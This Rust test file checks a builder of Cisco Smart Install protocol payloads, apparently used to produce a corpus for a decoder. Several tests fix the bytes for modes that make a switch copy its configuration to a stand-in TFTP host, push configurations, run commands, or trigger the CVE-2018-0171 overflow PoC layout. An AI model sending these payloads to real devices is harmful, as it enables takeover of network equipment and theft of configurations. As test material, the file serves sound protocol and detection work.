//! The corpus decodes to what each tool sends: sizes, kinds, URLs and commands from
//! smart-install.md §3, the PoC byte layout of §3.8, and the two stream shapes of §2.1.

use super::*;
use crate::proto::vstack::{DecodeError, Kind, Limits, decode_all};

fn params() -> Params {
    Params {
        tftp_host: "192.0.2.1".to_owned(),
        target_name: "192.0.2.2".to_owned(),
        file: None,
    }
}

fn kinds_and_urls(bytes: &[u8]) -> (Vec<Kind>, Vec<String>) {
    let d = decode_all(bytes, Limits::default());
    assert_eq!(d.error, None);
    let kinds = d.frames.iter().map(|f| f.message.kind()).collect();
    let urls = d
        .frames
        .iter()
        .flat_map(|f| {
            f.message
                .urls()
                .iter()
                .map(|u| u.text().into_owned())
                .collect::<Vec<_>>()
        })
        .collect();
    (kinds, urls)
}

#[test]
fn every_mode_builds_with_its_documented_size() {
    let sizes = [24, 24, 17, 312, 1048, 1048, 312, 468, 544, 2288, 1048, 1072];
    for (mode, size) in Mode::ALL.into_iter().zip(sizes) {
        let payload = build(mode, &params()).unwrap();
        assert_eq!(payload.bytes().len(), size, "{}", mode.name());
        assert!(!mode.describe().is_empty());
    }
}

#[test]
fn probes_are_the_scanner_bytes() {
    let test = build(Mode::Test, &params()).unwrap().bytes();
    assert_eq!(
        hex::encode(&test),
        "000000010000000100000004000000080000000100000000"
    );
    assert_eq!(build(Mode::Talos, &params()).unwrap().bytes(), test);
    let short = build(Mode::Greenbone, &params()).unwrap().bytes();
    assert_eq!(hex::encode(short), "0000000100000001000000030000000100");
}

#[test]
fn get_config_names_the_target_file_on_the_tftp_host() {
    let bytes = build(Mode::GetConfig, &params()).unwrap().bytes();
    assert_eq!(
        hex::encode(&bytes[..40]),
        "00000001000000010000000800000408000100140000000100000000fc99473786600000000303f4"
    );
    let (kinds, urls) = kinds_and_urls(&bytes);
    assert_eq!(kinds, vec![Kind::CopyCommands]);
    assert_eq!(urls, vec!["tftp://192.0.2.1/192.0.2.2.conf"]);
}

#[test]
fn url_modes_name_their_files() {
    let cases = [
        (
            Mode::LegacyTest,
            Kind::ConfigPush,
            "tftp://192.0.2.1/random_file",
        ),
        (
            Mode::ChangeConfig,
            Kind::ConfigPush,
            "tftp://192.0.2.1/192.0.2.2.conf",
        ),
        (
            Mode::UpdateIos,
            Kind::ImageUpgrade,
            "tftp://192.0.2.1/tar_imglist0.txt",
        ),
        (Mode::Execute, Kind::Execute, "tftp://192.0.2.1/execute.txt"),
        (
            Mode::MsfDownload,
            Kind::CopyCommands,
            "tftp://192.0.2.1/msfcfgdl",
        ),
    ];
    for (mode, kind, url) in cases {
        let (kinds, urls) = kinds_and_urls(&build(mode, &params()).unwrap().bytes());
        assert_eq!(
            (kinds, urls),
            (vec![kind], vec![url.to_owned()]),
            "{}",
            mode.name()
        );
    }
    let p = Params {
        file: Some("x.txt".to_owned()),
        ..params()
    };
    let (_, urls) = kinds_and_urls(&build(Mode::Execute, &p).unwrap().bytes());
    assert_eq!(urls, vec!["tftp://192.0.2.1/x.txt"]);
}

#[test]
fn poc_matches_the_embedi_layout() {
    let bytes = build(Mode::Cve20180171, &params()).unwrap().bytes();
    assert_eq!(
        hex::encode(&bytes[..24]),
        "000000010000000100000007000000d800000001000000d8"
    );
    assert!(bytes[24..60].iter().all(|&b| b == b'A'));
    assert_eq!(hex::encode(&bytes[60..64]), "000008d8");
    assert!(bytes[64..240].iter().all(|&b| b == b'B'));
    assert!(bytes[240..].iter().all(|&b| b == b'D'));
    let d = decode_all(&bytes, Limits::default());
    assert_eq!(d.frames[0].message.kind(), Kind::InitDiscovery);
    assert!(matches!(
        d.error,
        Some(DecodeError::Oversized { offset: 232, .. })
    ));
}

#[test]
fn split_and_pipelined_carry_the_same_message() {
    let split = build(Mode::Split, &params()).unwrap();
    assert_eq!(split.segments.len(), 4);
    assert_eq!(
        split.bytes(),
        build(Mode::GetConfig, &params()).unwrap().bytes()
    );
    let piped = build(Mode::Pipelined, &params()).unwrap();
    assert_eq!(piped.segments.len(), 1);
    let (kinds, _) = kinds_and_urls(&piped.bytes());
    assert_eq!(kinds, vec![Kind::Probe, Kind::CopyCommands]);
}

#[test]
fn refuses_a_url_too_long_for_its_slot() {
    let p = Params {
        tftp_host: "h".repeat(200),
        ..params()
    };
    assert!(build(Mode::Execute, &p).is_err());
}
